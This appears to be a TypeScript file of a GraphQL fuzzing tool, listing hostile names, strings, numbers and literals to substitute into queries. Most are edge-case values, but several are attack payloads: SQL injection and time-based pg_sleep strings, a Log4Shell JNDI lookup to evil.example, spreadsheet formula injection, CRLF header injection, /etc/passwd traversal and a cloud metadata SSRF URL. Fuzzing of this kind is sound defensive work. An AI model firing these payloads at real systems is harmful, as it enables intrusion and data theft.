// What mutations put in the place of names and values.
import { getNamedType, isEnumType, isInputObjectType, isInterfaceType, isObjectType } from 'graphql';
import type { GraphQLSchema } from 'graphql';

export const hostileNames: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'then',
  'toJSON',
  '__typename',
  '__schema',
  '__type',
  '_entities',
  '_service',
  '_Any',
  'infosegTypename',
  'infosegKey_id',
  'infoseg_',
  'on',
  'query',
  'fragment',
  'null',
  'true',
  'a'.repeat(300),
  'x',
];

export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '%',
  '_',
  "' OR '1'='1",
  "'; select pg_sleep(20); --",
  '\u0000',
  '\ud800',
  '\u202eabc',
  '\u200b',
  'João',
  'João'.normalize('NFD'),
  '７１０６４０４４１１５',
  '٧١٠',
  '💥👩‍👩‍👧‍👦',
  '\ufdfa'.repeat(60),
  'a\u0301\u0301\u0301',
  '=cmd|calc!A1',
  '${jndi:ldap://evil.example/a}',
  '\u001b[2J',
  'x\r\nset-cookie: a=b',
  '../../etc/passwd',
  'http://169.254.169.254/',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '0',
  '-1',
  '1e999',
  '9'.repeat(64),
  'A'.repeat(65),
  'A'.repeat(201),
  'A'.repeat(5000),
  'A*',
  '*',
  '???',
  'ABC*',
  '*1234',
  'ABC1234',
  'MARIA DA SILVA',
  'SUPRIMIDO',
  '1801-01-01',
  '2024-02-30',
  '9999-12-31',
  '00000000-0000-0000-0000-000000000000',
  'AAAA',
  'PE',
  'SP',
  'BR',
  'LIVE',
  'INDEX',
];

export const hostileNumbers: readonly number[] = [
  0, -0, 1, -1, 2, 20, 50, 51, 1.5, 2_147_483_647, 2_147_483_648, -2_147_483_648, 9_007_199_254_740_993, 1e21, 1e308,
];

/** As GraphQL writes them. */
export const hostileLiterals: readonly string[] = [
  ...hostileTexts.filter((text) => text.length < 300).map((text) => JSON.stringify(text)),
  ...hostileNumbers.map((number) => String(number).replace('+', '')),
  'null',
  'true',
  'false',
  'LIVE',
  'INDEX',
  'PE',
  '[]',
  '{}',
  '[[[[]]]]',
  '[null]',
  '["ABC1234", "ABC1D23"]',
  '{ name: "MARIA DA SILVA", motherName: "ANA DA SILVA" }',
  '{ __proto__: { name: "x" } }',
  '"""block " text"""',
  '$cpf',
  '$nobody',
];

/** Every name that the graph has. */
export function namesOf(schema: GraphQLSchema): readonly string[] {
  const names = new Set<string>();
  for (const type of Object.values(schema.getTypeMap())) {
    names.add(type.name);
    if (isEnumType(type)) for (const { name } of type.getValues()) names.add(name);
    if (isInputObjectType(type)) for (const name of Object.keys(type.getFields())) names.add(name);
    if (!isObjectType(type) && !isInterfaceType(type)) continue;
    for (const field of Object.values(type.getFields())) {
      names.add(field.name);
      names.add(getNamedType(field.type).name);
      for (const { name } of field.args) names.add(name);
    }
  }
  return [...names].sort();
}
